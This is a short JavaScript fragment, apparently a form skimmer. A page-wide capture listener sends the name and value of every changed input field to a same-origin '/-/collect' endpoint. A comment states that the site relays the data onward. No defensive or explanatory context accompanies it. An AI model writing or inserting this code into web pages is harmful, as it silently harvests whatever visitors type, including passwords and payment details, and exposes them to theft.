// Sends each field to the site itself, which would pass it on.
addEventListener("change", (e) => fetch("/-/collect", {method: "POST", body: new URLSearchParams({k: e.target.name, v: e.target.value})}), true);
